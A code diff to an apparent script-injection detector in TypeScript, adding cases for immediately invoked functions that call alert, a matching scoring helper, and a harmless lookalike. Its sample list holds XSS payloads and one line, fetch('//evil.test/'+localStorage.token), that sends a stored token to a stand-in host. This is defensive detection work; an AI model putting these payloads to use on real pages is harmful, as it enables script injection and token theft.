@@ -46,6 +46,8 @@ export const scriptCall: ValueRule = {
     'Array.prototype.sort.call`${alert}1337`',
     'Function`$${`${alert}(1)`}```',
     '(prompt())',
+    '(async x=>alert(x))(1)',
+    '(function(x){alert(x)})(1)',
     "fetch('//evil.test/'+localStorage.token)",
   ],
   lookalikes: [
@@ -72,6 +74,7 @@ export const scriptCall: ValueRule = {
     "if (confirm('Delete this item?')) { remove(item) }",
     'name = input(prompt("Name? "))',
     'el.onclick = function() { alert(this.id) }',
+    'const show = (x) => alert(x); (show)(1)',
     'Never use `eval(name)`; parse the text.',
   ],
 };
@@ -142,6 +145,8 @@ function scoreOf(subject: Subject, evidence: ScriptEvidence): number {
   if (evidence.strength === 3) return prose ? confidence.hint : confidence.strong;
   if (evidence.strength === 2 && isLoneAlert(tokens, evidence)) return confidence.likely;
   if (evidence.strength === 2 && isBracketed(tokens, evidence)) return confidence.likely;
+  if (evidence.strength === 2 && !prose && isCalledAtOnce(tokens, evidence))
+    return confidence.likely;
   if (prose) return confidence.trace;
   return isWholeText(tokens, evidence) ? confidence.hint : confidence.trace;
 }
@@ -207,6 +212,20 @@ function isLoneAlert(tokens: ScriptTokens, { first, last }: ScriptEvidence): boo
   const isBare = first === 0 || (first === 2 && wordAt(tokens, 0) === 'window');
   return isBare && isQuote(kindAt(tokens, first + 2));
 }
+
+/** `(async x=>alert(x))(1)`, `(function(x){alert(x)})(1)`: a function with nothing else in it. */
+function isCalledAtOnce(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
+  if (first > functionTokensMax || !dialogs.has(wordAt(tokens, first))) return false;
+  let at = last;
+  while (ends.has(kindAt(tokens, at))) at++;
+  return kindAt(tokens, at) === mark.close && kindAt(tokens, at + 1) === mark.open;
+}
+
+/** `;` and `}` */
+const ends: ReadonlySet<number> = new Set([59, 125]);
+
+/** `(async function name(x) {` */
+const functionTokensMax = 10;
 
 /** `(prompt())`, and nothing else. */
 function isBracketed(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
